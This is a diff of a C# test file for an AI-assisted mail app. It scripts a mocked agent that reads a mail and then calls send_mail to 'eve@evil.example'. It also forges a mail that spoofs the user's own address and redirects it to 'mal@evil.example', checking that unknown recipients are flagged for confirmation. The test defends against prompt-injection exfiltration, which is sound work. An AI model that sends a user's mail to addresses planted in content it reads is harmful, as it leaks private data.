@@ -92,7 +92,7 @@ public class CardTests : WithModel
         Peer.On("look at").Calls("read_mail", new { emailId = mail.Id() })
             .Then.Calls("send_mail", new { to = new[] { new { email = "eve@evil.example" } }, subject = "Report", body = "Here" }).Then.Says("It waits.");
         Assert.True((await AskedAsync("look at it")).GetProperty("card").GetProperty("recipients")[0].GetProperty("isNew").GetBoolean());
-        var draft = (await Owner.PostAsync("inbox/drafts", new { to = new[] { new { email = "Eve@evil.example" } }, subject = "S", content = "C" })).Data(HttpStatusCode.Created);
+        var draft = (await Owner.PostAsync("inbox/drafts", new { to = new[] { new { email = "eve@evil.example" } }, subject = "S", content = "C" })).Data(HttpStatusCode.Created);
         (await Owner.PostAsync($"inbox/drafts/{draft.Id()}/send", new { version = 1 })).Data();
         // A mail that the wish was read in makes nobody known, though the user's own name is on it.
         var forged = (await Owner.ImportAsync(("forged.eml", Post.Mail("Re: Report", "As you know me", $"Me <{Owner.Session.GetProperty("user").Text("email")}>").Replace("To: me@example.org", "To: mal@evil.example", StringComparison.Ordinal)))).Data();
